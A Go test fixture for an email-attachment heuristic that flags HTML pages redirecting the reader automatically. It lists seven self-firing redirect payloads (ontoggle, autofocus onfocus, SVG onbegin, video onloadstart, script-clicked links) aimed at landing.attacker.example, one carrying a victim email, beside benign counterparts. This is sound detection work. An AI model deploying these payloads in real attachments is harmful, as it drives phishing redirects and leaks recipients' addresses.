package heuristic

// autoRunCases: attached pages that send the reader on from a handler an
// element fires by itself in Chromium (a <details open>'s ontoggle,
// onfocus of an autofocus field, an SVG animation's onbegin, a video's
// onloadstart), or by clicking a link their script makes; and the honest
// pages whose same handlers wait for the reader.
func autoRunCases() map[string][]sample {
	return map[string][]sample{"html-redirect-attachment": {
		{"details open ontoggle", pageAttach("Document.html", `<p>Loading document...</p><details open ontoggle="location='https://landing.attacker.example/d'"><summary></summary></details>`), "2"},
		{"autofocus onfocus", pageAttach("Document.html", `<p>Loading document...</p><input autofocus onfocus="location.href='https://landing.attacker.example/f'">`), "2"},
		{"autofocus onfocusin", pageAttach("Document.html", `<p>Loading...</p><a href="#" autofocus onfocusin="window.location.replace('https://landing.attacker.example/i')">x</a>`), "2"},
		{"svg animation onbegin", pageAttach("Document.html", `<p>Loading...</p><svg><rect width="9" height="9"><animate attributeName="x" from="0" to="5" dur="1s" onbegin="location='https://landing.attacker.example/b'"/></rect></svg>`), "2"},
		{"video onloadstart", pageAttach("Document.html", `<p>Loading...</p><video src="x.mp4" onloadstart="location.assign('https://landing.attacker.example/v')"></video>`), "2"},
		{"link made and clicked", pageAttach("Document.html", `<p>Loading document...</p><script>var a = document.createElement("a"); a.href = "https://landing.attacker.example/c?e=victim@example.com"; document.body.appendChild(a); a.click();</script>`), "2"},
		{"link setAttribute and clicked on a timer", pageAttach("Document.html", `<p>Loading...</p><script>setTimeout(function () { const l = document.createElement("a"); l.setAttribute("href", "https://landing.attacker.example/s"); l . click(); }, 400)</script>`), "2"},
		// honest pages
		{"details closed ontoggle", pageAttach("faq.html", `<details ontoggle="location='https://www.example.com/faq#'+this.id" id="q1"><summary>Shipping</summary>Three days.</details>`), ""},
		{"onfocus without autofocus", pageAttach("form.html", `<input onfocus="location.href='https://www.example.com/help'">`), ""},
		{"link clicked in a button's handler", pageAttach("report.html", `<button onclick="var a = document.createElement('a'); a.href = 'https://www.example.com/report'; a.click()">Open the report</button>`), ""},
		{"link clicked to a local anchor", pageAttach("report.html", `<script>var a = document.createElement("a"); a.href = "#summary"; a.click();</script><h2 id="summary">Summary</h2>`), ""},
		{"download link clicked", pageAttach("export.html", `<script>var a = document.createElement("a"); a.href = "https://files.example.com/report.csv"; a.download = "report.csv"; a.click();</script>`), ""},
		{"other element clicked", pageAttach("tabs.html", `<script>var b = document.getElementById("tab1"); link.href = "https://www.example.com/"; b.click();</script><button id="tab1">Tab</button><a id="link">x</a>`), ""},
	}}
}
